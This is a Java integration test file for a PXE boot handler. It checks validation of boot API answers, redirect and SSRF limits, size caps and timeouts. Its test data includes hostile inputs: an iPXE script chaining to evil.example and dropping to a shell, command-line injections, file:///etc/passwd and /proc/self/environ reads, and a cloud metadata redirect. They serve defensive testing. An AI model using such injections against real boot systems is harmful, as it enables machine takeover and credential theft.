package org.pxebootstack.boothandler;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URLDecoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** A boot API that does everything right, and one that does everything wrong. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BootApiIT {
  private static final String BASE = "http://" + RunningBootHandler.PROVISIONER;
  private static final Pattern SEALED =
      Pattern.compile(Pattern.quote(BASE) + "(/sealed/[A-Za-z0-9_-]+/\\S+)");

  private final Path directory;
  private final ScriptedServer api;
  private final ScriptedServer elsewhere;
  private final RunningBootHandler handler;
  private int machines;

  BootApiIT(@TempDir Path directory) throws Exception {
    this.directory = directory;
    this.api = new ScriptedServer("127.0.0.1");
    this.elsewhere = new ScriptedServer("127.0.7.7");
    Path root = Files.createDirectories(directory.resolve("root"));
    Files.writeString(root.resolve("local"), "a local kernel");
    this.handler =
        new RunningBootHandler(directory)
            .with("BOOT_API_URL", api.url("/prefix"))
            .with("BOOT_API_TIMEOUT", "4")
            .with("BOOT_API_TOKEN", "secret-of-the-api")
            .with("FILE_ROOT", root.toString())
            .with("PROXY_ALLOW", "127.0.7.7/32")
            .start();
  }

  @AfterAll
  void stop() throws IOException {
    handler.close();
    api.close();
    elsewhere.close();
  }

  /** A MAC that nobody has asked for. */
  private String mac() {
    machines++;
    return "52:54:00:00:%02x:%02x".formatted(machines / 256 + 0x70, machines % 256);
  }

  private String ask(String mac) throws Exception {
    return handler.get("/ipxe?mac=" + mac, "User-Agent", "iPXE/1.21.1").body();
  }

  private String askAfter(String json) throws Exception {
    String mac = mac();
    api.onJson("/prefix/v1/boot/" + mac, json);
    return ask(mac);
  }

  private static List<String> sealed(String script) {
    List<String> paths = new ArrayList<>();
    Matcher matcher = SEALED.matcher(script);
    while (matcher.find()) {
      paths.add(matcher.group(1));
    }
    return paths;
  }

  @Test
  void aMachineBootsWhatTheApiSays() throws Exception {
    api.on("/prefix/vmlinuz", ScriptedServer.status(200, "a kernel"));
    api.on("/pool/initrd", ScriptedServer.status(200, "an initrd"));
    elsewhere.on("/image.iso", ScriptedServer.status(200, "an image"));
    String script =
        askAfter(
            """
            {"kernel": "vmlinuz", "initrd": ["/pool/initrd", "%s"],
             "cmdline": "root=live:{{ URL \\"%s\\" }} mac=${net0/mac}", "message": "hello"}
            """
                .formatted("file://" + directory + "/root/local", elsewhere.url("/image.iso")));
    List<String> paths = sealed(script);
    assertThat(paths).hasSize(4);
    // The script in whole, but for the names.
    String plain = SEALED.matcher(script).replaceAll("<sealed>");
    assertThat(plain)
        .startsWith("#!ipxe\necho hello\n")
        .contains(
            "kernel --name vmlinuz <sealed> initrd=initrd1 initrd=initrd2 root=live:<sealed>"
                + " mac=${net0/mac} || goto trouble\n",
            "initrd --name initrd1 <sealed> || goto trouble\n",
            "initrd --name initrd2 <sealed> || goto trouble\n")
        .doesNotContain(api.authority());
    List<String> contents = new ArrayList<>();
    for (String each : paths) {
      contents.add(handler.get(each).body());
    }
    assertThat(contents).containsExactly("a kernel", "an image", "an initrd", "a local kernel");
    assertThat(paths.get(1)).endsWith("/image.iso");
  }

  @Test
  void theApiIsToldOfTheMachine() throws Exception {
    String mac = mac();
    String path = "/prefix/v1/boot/" + mac;
    api.onJson(path, "{\"kernel\": \"k\"}");
    String about =
        "&arch=arm64&platform=efi&uuid=4C4C4544-0036-4A10-8056-B9C04F4B5032&serial=A%20B%26c"
            + "&manufacturer=Dell%20Inc.&product=R%2B1&memory=2048";
    assertThat(handler.get("/ipxe?mac=" + mac.toUpperCase(Locale.ROOT) + about).body())
        .contains("kernel --name");
    var asked = api.requests(path).getFirst();
    assertThat(asked.method()).isEqualTo("GET");
    assertThat(URLDecoder.decode(asked.target(), StandardCharsets.UTF_8).split("[?&]"))
        .containsExactly(
            path,
            "arch=aarch64",
            "firmware=efi",
            "serial=A B",
            "c",
            "uuid=4c4c4544-0036-4a10-8056-b9c04f4b5032",
            "vendor=Dell Inc.",
            "product=R+1");
    assertThat(asked.target()).contains("serial=A%20B%26c", "product=R%2B1");
    assertThat(asked.headers())
        .containsEntry("Authorization", "Bearer secret-of-the-api")
        .containsEntry("Accept", "application/json");
    assertThat(handler.log()).doesNotContain("secret-of-the-api");
  }

  @Test
  void aDefinitionComesFirst() throws Exception {
    String mac = mac();
    api.onJson("/prefix/v1/boot/" + mac, "{\"kernel\": \"of-the-api\"}");
    handler.define("defined", ContractTexts.vm("defined", mac));
    assertThat(ask(mac)).contains("installing debian-13 on defined");
    assertThat(api.requests("/prefix/v1/boot/" + mac)).isEmpty();
  }

  /** Who writes a script is trusted with the machine that asked, and with nothing else. */
  @Test
  void aScriptReachesTheMachineThatAskedAlone() throws Exception {
    String hostile = "#!ipxe\\nset x ${net0/mac}\\nchain http://evil.example/ || shell\\n";
    assertThat(askAfter("{\"ipxe-script\": \"" + hostile + "\", \"kernel\": 7}"))
        .isEqualTo("#!ipxe\nset x ${net0/mac}\nchain http://evil.example/ || shell\n");
    assertThat(askAfter("{\"kernel\": \"k\"}")).doesNotContain("evil.example");
  }

  @ParameterizedTest
  @CsvSource({"204", "400", "401", "404", "500", "503", "206", "300", "304"})
  void whatIsNotTwoHundredLeavesTheMachineAlone(int status) throws Exception {
    String mac = mac();
    api.on(
        "/prefix/v1/boot/" + mac,
        (_, out) -> ScriptedServer.head(out, status, status == 204 || status == 304 ? -1 : 0));
    assertThat(ask(mac))
        .isEqualTo(
            "#!ipxe\necho pxeboot-stack: %s gets nothing from the boot API, which answered %d, its firmware goes on\nexit 1\n"
                .formatted(mac, status));
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " => ",
      quoteCharacter = '~',
      textBlock =
          """
          {"kernel": 1} => kernel is no string, but number
          {"kernel": "k", "initrd": "i"} => initrd is no list of at most 32 strings
          {"kernel": "k", "cmdline": 1} => cmdline is no string, but number
          {"kernel": "k", "cmdline": "a\\nchain http://evil.example"} => cmdline has more than one line
          {"kernel": "k", "cmdline": "a || chain http://evil.example"} => means something to iPXE itself
          {"kernel": "k", "cmdline": "{{ env }}"} => is not understood
          {"kernel": "k || shell"} => is no URL, correct kernel
          {"kernel": "ftp://host/k"} => is no URL to fetch
          {"kernel": "http:///k"} => is no URL to fetch
          {"kernel": "http://user:password@host/k"} => is no URL to fetch
          {"kernel": "file:///dev/zero"} => is no regular file below FILE_ROOT
          {"kernel": "file:///etc/passwd"} => is no regular file below FILE_ROOT
          {"kernel": "k", "initrd": ["file:///proc/self/environ"]} => is no regular file below FILE_ROOT
          {"ipxe-script": "echo no shebang"} => does not begin with a line
          {"ipxe-script": "#!ipxe\\n\\u0007"} => ipxe-script is no text
          {"kernel": => the answer is not JSON
          <html>no</html> => the answer is not JSON
          """)
  void whatIsWrongIsOneSentence(String json, String why) throws Exception {
    String script = askAfter(json);
    assertThat(script.lines()).hasSize(4);
    assertThat(script.replace("?", "#"))
        .startsWith("#!ipxe\necho pxeboot-stack: the boot API at " + api.url("/prefix") + ": ")
        .contains(why.replace("?", "#"))
        .endsWith("\nsleep 10\nexit 1\n");
    assertThat(script.lines().filter(each -> each.contains("evil")))
        .allMatch(each -> each.startsWith("echo "));
    handler.eventually("a line in the log", () -> handler.log().contains(" WARN  the boot API at"));
  }

  @Test
  void redirectsAreFollowedAsFarAsTheyMay() throws Exception {
    String mac = mac();
    String path = "/prefix/v1/boot/" + mac;
    api.on(path, ScriptedServer.redirect("/other"));
    api.onJson("/other", "{\"kernel\": \"found\"}");
    assertThat(ask(mac)).contains("/found || goto trouble");
    api.on(path, ScriptedServer.redirect(elsewhere.url("/there")));
    elsewhere.onJson("/there", "{\"kernel\": \"there\"}");
    assertThat(ask(mac)).contains("/there");
    // The token is for the API alone.
    assertThat(elsewhere.requests("/there").getFirst().headers())
        .doesNotContainKey("Authorization");
    api.on(path, ScriptedServer.redirect(path));
    assertThat(ask(mac)).contains("redirects more than 5 times");
    api.on(path, ScriptedServer.redirect("file:///etc/passwd"));
    assertThat(ask(mac)).contains("redirects to what is no http or https URL");
    api.on(path, ScriptedServer.redirect("http://127.0.0.9:1/"));
    assertThat(ask(mac))
        .contains("127.0.0.9 is at 127.0.0.9, which is not a public address")
        .contains("PROXY_ALLOW=127.0.0.9/32");
    api.on(path, ScriptedServer.redirect("http://169.254.169.254/latest/meta-data/"));
    assertThat(ask(mac)).contains("169.254.169.254, which is not a public address");
    api.on(path, ScriptedServer.redirect("http://[::1]:80/"));
    assertThat(ask(mac)).contains("which is not a public address");
  }

  @Test
  void aBodyThatNeverEndsIsCutOff() throws Exception {
    String mac = mac();
    api.on(
        "/prefix/v1/boot/" + mac,
        (_, out) -> {
          ScriptedServer.head(out, 200, -1);
          ScriptedServer.zeros(out, -1);
        });
    assertThat(ask(mac)).contains("answered more than 256 KiB");
    Footprint first = Footprint.of(handler);
    for (int i = 0; i < 50; i++) {
      assertThat(ask(mac)).contains("answered more than 256 KiB");
    }
    Footprint.of(handler).assertNoLargerThan(first);
  }

  /** Each of them holds up its own machine, and for as long as is allowed. */
  @Test
  void aSlowAnswerHoldsUpItsOwnMachineAlone() throws Exception {
    AtomicInteger waiting = new AtomicInteger();
    ScriptedServer.Answer never =
        (_, _) -> {
          waiting.incrementAndGet();
          Thread.sleep(Duration.ofMinutes(1));
        };
    ScriptedServer.Answer dripping =
        (_, out) -> {
          waiting.incrementAndGet();
          ScriptedServer.head(out, 200, 10_000);
          while (true) {
            out.write(' ');
            out.flush();
            Thread.sleep(100);
          }
        };
    String quick = mac();
    api.onJson("/prefix/v1/boot/" + quick, "{\"kernel\": \"quick\"}");
    String defined = mac();
    handler.define("beside-slow", ContractTexts.vm("beside-slow", defined));
    assertThat(ask(quick)).contains("/quick ");
    long start = System.nanoTime();
    try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
      List<Future<String>> slow = new ArrayList<>();
      for (int i = 0; i < 80; i++) {
        String mac = mac();
        api.on("/prefix/v1/boot/" + mac, i % 2 == 0 ? never : dripping);
        slow.add(threads.submit(() -> ask(mac)));
      }
      handler.eventually("all of them to wait", () -> waiting.get() == slow.size());
      assertThat(slow).noneMatch(Future::isDone);
      long asked = System.nanoTime();
      assertThat(ask(quick)).contains("/quick ");
      assertThat(ask(defined)).contains("installing debian-13 on beside-slow");
      assertThat(Duration.ofNanos(System.nanoTime() - asked)).isLessThan(Duration.ofSeconds(1));
      for (Future<String> each : slow) {
        assertThat(each.get()).contains("did not answer");
      }
    }
    assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(20));
  }

  @Test
  void aServerThatIsNotThereIsSaid() throws Exception {
    String mac = mac();
    api.on(
        "/prefix/v1/boot/" + mac,
        (_, out) -> out.write("SSH-2.0-OpenSSH\r\n".getBytes(StandardCharsets.US_ASCII)));
    assertThat(ask(mac)).contains("gives no answer in HTTP");
    api.on("/prefix/v1/boot/" + mac, (_, _) -> {});
    assertThat(ask(mac)).contains("gives no answer in HTTP");
    HttpResponse<String> person = handler.get("/ipxe?mac=" + mac);
    assertThat(person.statusCode()).isEqualTo(502);
  }
}
